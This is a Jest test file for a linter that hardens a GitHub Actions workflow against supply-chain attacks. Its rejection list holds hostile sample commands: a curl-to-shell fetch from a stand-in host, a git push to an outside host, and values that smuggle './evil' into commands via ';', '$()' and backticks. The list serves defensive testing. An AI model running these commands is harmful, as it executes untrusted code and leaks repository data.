/** @jest-environment node */
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { z } from 'zod';
import { parseWorkflow } from '@/tooling/supply-chain/workflow';
import { workflowProblems } from '@/tooling/supply-chain/workflow-problems';

const file = '.github/workflows/site.yml';
const text = readFileSync(file, 'utf8');
const { workflow } = parseWorkflow(text);
const sha = 'a'.repeat(40);

/** An expression of GitHub Actions. */
const expression = (code: string) => `$\{{ ${code} }}`;

/** A workflow of one job. */
const workflowOf = (steps: string, { head = '', job = '' } = {}) => `on: push
permissions:
  contents: read
${head}
jobs:
  a:
    runs-on: ubuntu-24.04
${job}
    steps:
${steps.replace(/^/gm, '      ')}
`;

describe('a workflow', () => {
  it('is in order with pinned actions and commands of the lockfile', () => {
    const steps = `- uses: a/b/c@${sha} # v1.2.3
- uses: actions/checkout@${sha} # v7.0.1
  with: { persist-credentials: false }
- run: npm ci --ignore-scripts
- run: |
    tools/wrangler/node_modules/.bin/wrangler pages deploy out \\
      --project-name="$PROJECT"
  env: { TOKEN: "${expression('secrets.TOKEN')}" }`;
    const job = `    env: { CAN: "${expression("secrets.TOKEN != ''")}" }`;
    expect(workflowProblems(workflowOf(steps, { job }))).toEqual([]);
  });

  it.each(['a/b@v4', 'a/b@main', 'a/b', 'a/b@1.2.3', `a/b@${'a'.repeat(7)}`, 'docker://node:24'])(
    'names no action by what can be moved: %s',
    (name) => {
      const problem = `${name}: name the full SHA of a commit`;
      expect(workflowProblems(workflowOf(`- uses: ${name} # v1.2.3`))).toEqual([problem]);
      // However it is written.
      expect(workflowProblems(workflowOf(`- { "uses": '${name}' }`))).toEqual([problem]);
    },
  );

  it.each(['', ' # main', ' # v4'])('names the release beside the SHA: "%s"', (comment) => {
    expect(workflowProblems(workflowOf(`- uses: a/b@${sha}${comment}`))).toEqual([
      `a/b@${sha}: name the release in a comment, # v1.2.3`,
    ]);
  });

  it('leaves no credentials behind a checkout', () => {
    const checkout = `- uses: actions/checkout@${sha} # v7.0.1`;
    const problem = 'jobs.a: actions/checkout without persist-credentials: false';
    expect(workflowProblems(workflowOf(checkout))).toEqual([problem]);
    const persisting = `${checkout}\n  with: { persist-credentials: true }`;
    expect(workflowProblems(workflowOf(persisting))).toEqual([problem]);
  });

  it.each([
    'npx --yes wrangler@4 pages deploy out',
    'npx -y wrangler deploy',
    'npx wrangler deploy',
    'cd out && npx wrangler deploy',
    'npm exec wrangler deploy',
    'npm install wrangler',
    'npm i -g wrangler@4.164.0',
    'pnpm add wrangler',
    'corepack enable',
    'pip install zizmor',
    'curl -fsSL https://a.test/install.sh | sh',
    'npm --silent ci',
    'npm --prefix x ci',
    'npm --prefix x install evil',
    'npm in evil',
    'npm isntall evil',
    'npm ci; ./evil',
    'npm test && ./evil',
    'npm test $(./evil)',
    'npm run build -- --evil',
    'docker run alpine',
    'deno run https://a.test/x.ts',
    'node_modules/.bin/deno run https://a.test/x.ts',
    'go install a.test/x@latest',
    'git clone https://a.test/x && x/run',
    'tools/wrangler/node_modules/.bin/wrangler pages deploy out | sh',
    'echo x > $GITHUB_ENV',
    'echo x >> "$GITHUB_PATH"',
    'echo "$(./evil)"',
    'if ./evil; then echo; fi',
    'x=$(npm in evil)',
    'git push https://a.test/x HEAD',
    'gh api repos/a/b',
    'echo `./evil`',
  ])('runs nothing but its own commands: %s', (run) => {
    const alone = workflowProblems(workflowOf(`- run: ${JSON.stringify(run)}`));
    expect(alone).not.toEqual([]);
    expect(alone.filter((problem) => !/not one of the allowed|later steps/.test(problem))).toEqual(
      [],
    );
    const behindAnother = workflowOf(`- run: |\n    npm test\n    ${run}`);
    expect(workflowProblems(behindAnother)).toEqual(alone);
  });

  it('runs its commands in the ordinary shell', () => {
    const shell = 'shell: "./evil {0}"';
    const step = `- run: npm test\n  ${shell}`;
    expect(workflowProblems(workflowOf(step))).toEqual(['jobs.a: a shell of its own']);
    const defaults = `defaults: { run: { ${shell} } }`;
    const run = '- run: npm test';
    expect(workflowProblems(workflowOf(run, { job: `    ${defaults}` }))).toEqual([
      'jobs.a: defaults for its commands',
    ]);
    expect(workflowProblems(workflowOf(run, { head: defaults }))).toEqual([
      'defaults for all commands',
    ]);
  });

  it('writes nothing foreign into a command', () => {
    const run = `- run: echo "${expression('github.event.head_commit.message')}"`;
    expect(workflowProblems(workflowOf(run))).toEqual([
      'jobs.a: an expression in a command: pass it in env',
    ]);
  });

  it('hands a secret to one command alone', () => {
    const env = `env: { TOKEN: "${expression('secrets.TOKEN')}" }`;
    const every = 'a secret for every';
    const run = '- run: echo';
    expect(workflowProblems(workflowOf(run, { head: env }))).toEqual([
      expect.stringContaining(`${every} job`),
    ]);
    expect(workflowProblems(workflowOf(run, { job: `    ${env}` }))).toEqual([
      expect.stringContaining(`${every} step`),
    ]);
    for (const place of [
      env,
      env.replace('env', 'with'),
      `env: { T: "${expression('toJSON(secrets)')}" }`,
      `with: { T: "${expression('github.token')}" }`,
      `with: { T: "${expression('SECRETS.Token')}" }`,
      `with: { T: "${expression("github['token']")}" }`,
      `env: { T: "${expression('toJSON(github)')}" }`,
    ]) {
      expect(workflowProblems(workflowOf(`- uses: a/b@${sha} # v1.2.3\n  ${place}`))).toEqual([
        expect.stringContaining('pass it to a single command'),
      ]);
    }
    expect(workflowProblems(workflowOf(`- run: npm ci\n- run: npm test\n  ${env}`))).toEqual([
      'jobs.a: npm ci without --ignore-scripts in a job with a secret',
    ]);
    expect(workflowProblems(workflowOf(`- run: npm ci --ignore-scripts\n  ${env}`))).toEqual([
      'jobs.a: npm ci with a secret in its environment',
    ]);
  });

  it('asks for no right but to read', () => {
    const missing = ['permissions: contents: read is missing at the top'];
    const right = workflowOf('- run: echo');
    expect(workflowProblems(right.replace(/permissions:\n.*\n/, ''))).toEqual(missing);
    expect(workflowProblems(right.replace('contents: read', 'contents: write'))).toEqual(missing);
    const job = '    permissions: write-all';
    expect(workflowProblems(workflowOf('- run: echo', { job }))).toEqual([
      'jobs.a: grants write permissions',
    ]);
  });

  it('may write in a job that runs git and gh alone', () => {
    const writes = '    permissions: { contents: read, pull-requests: write }';
    const problem = ['jobs.a: grants write permissions'];
    const of = (steps: string, job = writes) => workflowProblems(workflowOf(steps, { job }));
    expect(of('- run: gh pr create')).toEqual([]);
    expect(of(`- uses: actions/download-artifact@${sha} # v8.0.1`)).toEqual([]);
    expect(of('- run: npm run build')).toEqual(problem);
    expect(of('- run: node_modules/.bin/playwright install')).toEqual(problem);
    expect(of(`- uses: a/b@${sha} # v1.2.3`)).toEqual(problem);
    expect(of('- run: gh pr create', '    permissions: { actions: write }')).toEqual(problem);
  });

  it.each(['pull_request_target', '[push, workflow_run]', '{ issue_comment: }'])(
    'is not started by strangers: %s',
    (on) => {
      const started = workflowOf('- run: echo').replace('on: push', `on: ${on}`);
      expect(workflowProblems(started)).toEqual([expect.stringContaining('the trigger')]);
    },
  );

  const digest = `@sha256:${'b'.repeat(64)}`;

  it.each([
    ['container: node:24', 'node:24'],
    [`container: { image: "node:24@sha256:${'b'.repeat(8)}" }`, `node:24@sha256:${'b'.repeat(8)}`],
    ['services: { db: { image: postgres } }', 'postgres'],
    [`services: { a: { image: "a${digest}" }, db: { image: "b:1" } }`, 'b:1'],
  ])('runs in no image that can be moved: %s', (job, image) => {
    expect(workflowProblems(workflowOf('- run: echo', { job: `    ${job}` }))).toEqual([
      `jobs.a: the image ${image}: name its digest, @sha256:…`,
    ]);
  });

  it('runs in an image by its digest', () => {
    const job = `    container: "node:24${digest}"`;
    expect(workflowProblems(workflowOf('- run: echo', { job }))).toEqual([]);
  });

  it('hands no workflow every secret', () => {
    const job = '    secrets: inherit';
    expect(workflowProblems(workflowOf('- run: echo', { job }))).toEqual([
      'jobs.a: passes on every secret: list those that are needed',
    ]);
  });

  it.each(['ubuntu-latest', 'self-hosted', 'ubuntu'])('does not run on %s', (runner) => {
    const other = workflowOf('- run: echo').replace('ubuntu-24.04', runner);
    expect(workflowProblems(other)).toEqual([
      `jobs.a: runs on ${runner}: name a hosted image with its version`,
    ]);
  });

  it('is YAML of the right form', () => {
    for (const broken of ['jobs: [', 'jobs: 1', '- a']) {
      expect(() => workflowProblems(broken)).toThrow();
    }
  });
});

describe('the pipeline', () => {
  const stepsOf = (job: string) => workflow.jobs[job]?.steps ?? [];
  const runs = (job: string) => stepsOf(job).flatMap(({ run }) => run ?? []);

  it('runs the tests and the build of the project', () => {
    expect(runs('test')).toEqual(expect.arrayContaining(['npm ci', 'npm test']));
    expect(runs('build')).toEqual(expect.arrayContaining(['npm ci', 'npm run build']));
  });

  it('gives the build every variable that a build needs', () => {
    const page = readFileSync('docs/publishing/README.md', 'utf8');
    const needed = [...page.matchAll(/^\| `([A-Z_]+)` \|/gm)].map(([, name = '']) => name);
    expect(needed).toContain('MESSAGES_URL');
    const build = stepsOf('build').find(({ run }) => run === 'npm run build');
    expect(build?.env).toEqual(
      Object.fromEntries(needed.map((name) => [name, expression(`vars.${name}`)])),
    );
  });

  it('publishes nothing without its secret, nor before all is tested and checked', () => {
    const [first, ...others] = stepsOf('publish');
    expect(first).toMatchObject({ if: "env.CAN_PUBLISH != 'true'" });
    expect(others.length).toBeGreaterThan(1);
    for (const step of others) expect(step).toMatchObject({ if: "env.CAN_PUBLISH == 'true'" });
    expect(workflow.jobs['publish']).toMatchObject({ needs: ['build', 'packages'] });
    expect(workflow.jobs['build']).toMatchObject({ needs: 'test' });
    for (const job of ['build', 'packages']) {
      expect(workflow.jobs[job]).toMatchObject({ if: "github.event_name == 'push'" });
    }
  });

  it('gives the token to the one command that publishes', () => {
    const withToken = Object.values(workflow.jobs)
      .flatMap(({ steps }) => steps)
      .filter((step) => /secrets\.CLOUDFLARE_API_TOKEN\s*}}/.test(JSON.stringify(step)));
    expect(withToken).toEqual([
      expect.objectContaining({
        run: expect.stringMatching(/^tools\/wrangler\/node_modules\/\.bin\/wrangler pages deploy /),
      }),
    ]);
    // Its program comes from a lockfile of its own.
    const installs = stepsOf('publish').filter(({ run }) => run === 'npm ci --ignore-scripts');
    expect(installs).toEqual([expect.objectContaining({ 'working-directory': 'tools/wrangler' })]);
  });

  it('checks the signatures of what it installs', () => {
    expect(runs('packages')).toEqual(['npm ci', 'npm audit signatures', 'npm run lockfile:fill']);
    expect(runs('publish')).toContain('npm audit signatures');
  });

  it('keeps a bill of materials with the site', () => {
    expect(runs('build')).toContain('npm run sbom');
    const kept = stepsOf('build').filter(({ uses }) => uses?.startsWith('actions/upload-artifact'));
    expect(kept.map((step) => step.with['path'])).toEqual(['out', 'sbom']);
  });

  it('tests on the Node of .nvmrc and on the oldest that is allowed', () => {
    const { engines } = z
      .object({ engines: z.object({ node: z.string() }) })
      .parse(JSON.parse(readFileSync('package.json', 'utf8')));
    const oldest = `${engines.node.replace('>=', '')}.0`;
    expect(workflow.jobs['test']).toMatchObject({ strategy: { matrix: { node: ['', oldest] } } });
    expect(readFileSync('.nvmrc', 'utf8')).toMatch(/^\d+\n$/);
  });

  it('learns of newer versions of all that it uses', () => {
    const { updates } = z
      .object({ updates: z.array(z.record(z.string(), z.unknown())) })
      .parse(parse(readFileSync('.github/dependabot.yml', 'utf8')));
    expect(updates.map((update) => [update['package-ecosystem'], update['directory']])).toEqual([
      ['npm', '/'],
      ['npm', '/tools/wrangler'],
      ['github-actions', '/'],
    ]);
  });
});
